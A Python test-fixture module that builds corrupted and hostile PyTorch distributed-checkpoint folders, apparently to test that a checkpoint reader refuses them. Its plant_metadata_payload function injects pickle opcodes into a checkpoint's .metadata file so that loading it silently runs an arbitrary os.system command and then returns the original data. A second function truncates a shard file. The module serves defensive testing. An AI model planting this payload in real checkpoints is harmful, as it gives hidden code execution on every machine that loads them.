"""Damaged and hostile DCP folders, made without torch: what a DCP reader must refuse.

    plant_metadata_payload(folder, command)   .metadata runs ``command`` when unpickled
    truncate_distcp(folder) -> path           the largest .distcp file cut in half

A DCP ``.metadata`` is a plain pickle, and torch reads it with ``pickle.load``: whoever can
write the file runs code in every job that opens the checkpoint. The planted file shows it.
It is the payload's opcodes followed by the original pickle, so unpickling runs
``os.system(command)``, discards its result and goes on to return the original ``Metadata``
object: torch then loads the checkpoint as if nothing happened, and the file still holds
every class name and key a casual reader (``strings``, ``pickletools.dis`` of the tail)
would expect.

This module imports neither torch nor layoutc.
"""

from __future__ import annotations

import os
import pickle
import pickletools
from pathlib import Path
from typing import Any

METADATA = ".metadata"


class _System:
    """Pickles as a call of ``os.system(command)``."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def payload(command: str) -> bytes:
    """Pickle opcodes that call ``os.system(command)`` and leave the stack as it was: no
    PROTO, no STOP, no memo (so the original pickle's memo indices after it stay valid)."""
    ops = pickletools.optimize(pickle.dumps(_System(command), protocol=2))
    names = [op.name for op, _, _ in pickletools.genops(ops)]
    assert names[0] == "PROTO" and names[-1] == "STOP", names
    assert not {"PUT", "BINPUT", "LONG_BINPUT", "MEMOIZE"} & set(names), names
    return ops[2:-1] + pickle.POP


def plant_metadata_payload(folder: Path | str, command: str) -> Path:
    """Rewrite ``folder/.metadata`` so that ``pickle.load`` runs ``os.system(command)``
    before returning the original metadata unchanged; returns the file's path."""
    path = Path(folder) / METADATA
    original = path.read_bytes()
    if not original.startswith(b"\x80"):
        raise ValueError(f"{path} does not start with a pickle PROTO opcode")
    # The payload goes right after the original PROTO opcode, so the file starts as torch's
    # does; protocol 4's first FRAME follows it, outside which the payload needs no frame.
    tmp = path.with_name(path.name + ".tmp")
    tmp.write_bytes(original[:2] + payload(command) + original[2:])
    os.replace(tmp, path)
    return path


def truncate_distcp(folder: Path | str) -> Path:
    """Cut the largest ``*.distcp`` file of ``folder`` to half its length; returns it."""
    files = sorted(Path(folder).glob("*.distcp"), key=lambda p: (-p.stat().st_size, p.name))
    if not files:
        raise FileNotFoundError(f"no .distcp file in {folder}")
    victim = files[0]
    with victim.open("r+b") as fh:
        fh.truncate(victim.stat().st_size // 2)
    return victim
